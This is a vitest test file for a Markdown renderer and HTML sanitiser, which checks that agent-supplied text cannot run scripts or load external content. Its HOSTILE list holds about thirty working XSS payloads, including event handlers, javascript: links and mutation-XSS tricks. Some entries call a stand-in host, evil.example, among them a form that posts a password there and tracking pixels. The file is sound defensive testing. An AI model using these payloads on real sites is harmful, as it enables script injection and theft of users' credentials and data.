/** Text of agents is hostile until proven otherwise. */
import { expect, test } from "vitest";
import { render } from "../src/text/markdown.ts";
import { safeLink, sanitise } from "../src/text/sanitise.ts";
import { highlight } from "../src/text/highlight.ts";

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='  java\nscript:alert(1)'>x</a>",
  "<form action='https://evil.example'><input name=password><button>go</button></form>",
  "<style>@import url(https://evil.example)</style>",
  "<link rel=stylesheet href=https://evil.example>",
  "<base href=https://evil.example>",
  "<object data='javascript:alert(1)'></object>",
  "<video poster=javascript:alert(1) src=https://evil.example/x>",
  "<p style='position:fixed;inset:0;background:url(https://evil.example)'>cover</p>",
  "<details open ontoggle=alert(1)>",
  "<template><img src=x onerror=alert(1)></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt&colon;alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:alert(1))",
  "[x](file:///etc/passwd)",
  "![x](https://evil.example/pixel.png)",
  "![x](//evil.example/pixel.png)",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "<javascript:alert(1)>",
  "```html\n</code></pre><script>alert(1)</script>\n```",
  "```\"onmouseover=alert(1) x=\"\ncode\n```",
  "`</code><script>alert(1)</script>`",
  "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:alert(1)) | <script>alert(1)</script> |",
  '[x](https://example.com "\\"onclick=alert(1)")',
  "<div class='card primary' id='prompt' data-question>May I?</div>",
];

function elements(html: string): Element[] {
  const box = document.createElement("div");
  box.innerHTML = html;
  return [...box.querySelectorAll("*")];
}

const ATTRIBUTES = new Set(["href", "title", "class", "start", "alt", "target", "rel", "src", "dir"]);

test.each(HOSTILE)("nothing runs or loads: %s", (text) => {
  for (const html of [render(text), sanitise(text)]) {
    for (const element of elements(html)) {
      expect(element.tagName).not.toMatch(/^(?:SCRIPT|IFRAME|OBJECT|FORM|INPUT|BUTTON|STYLE|LINK|BASE|SVG|MATH|VIDEO|TEMPLATE|DETAILS|DIV)$/i);
      for (const { name, value } of element.attributes) {
        expect(ATTRIBUTES.has(name), `${name}=${value}`).toBe(true);
        if (name === "href") expect(value).toMatch(/^(?:https?|mailto):/i);
        if (name === "src") expect(value).toMatch(/^data:image\/(?:png|jpeg|gif|webp);base64,/);
        if (name === "dir") expect(value).toBe("auto");
        if (name === "class") expect(value).toMatch(/^(?:language-|md-|hljs)/);
      }
      if (element.hasAttribute("href")) {
        expect(element.getAttribute("target")).toBe("_blank");
        expect(element.getAttribute("rel")).toBe("noopener noreferrer");
      }
    }
  }
});

test("plain HTML is shown as text", () => {
  expect(render("a <b>bold</b> claim")).toContain("&lt;b&gt;bold&lt;/b&gt;");
});

test("good links, small pictures and code stay", () => {
  expect(render("[docs](https://example.com/a?b=c)")).toContain('href="https://example.com/a?b=c"');
  expect(render("![dot](data:image/png;base64,aGk=)")).toContain('src="data:image/png;base64,aGk="');
  expect(render("![tracker](https://example.com/x.png)")).not.toContain("<img");
  expect(safeLink("mailto:a@example.com")).not.toBeNull();
  expect(safeLink("javascript:alert(1)")).toBeNull();
});

test("highlighted code is as safe as plain code", async () => {
  const html = await highlight("</span><script>alert(1)</script>\nlet x = '<img onerror=1>';", "js");
  expect(html).toContain("hljs-keyword");
  expect(elements(html).every((element) => element.tagName === "SPAN")).toBe(true);
  expect(await highlight("<b>", "nolanguage")).toBe("&lt;b&gt;");
});

test("each paragraph, cell and list has the direction of its own text", () => {
  const [list, ...rest] = elements(render("- פריט ראשון\n\n- second"));
  expect(list?.getAttribute("dir")).toBe("auto");
  expect(rest.some((element) => element.hasAttribute("dir"))).toBe(false);
  expect(elements(render("שלום")).map((element) => element.getAttribute("dir"))).toEqual(["auto"]);
});
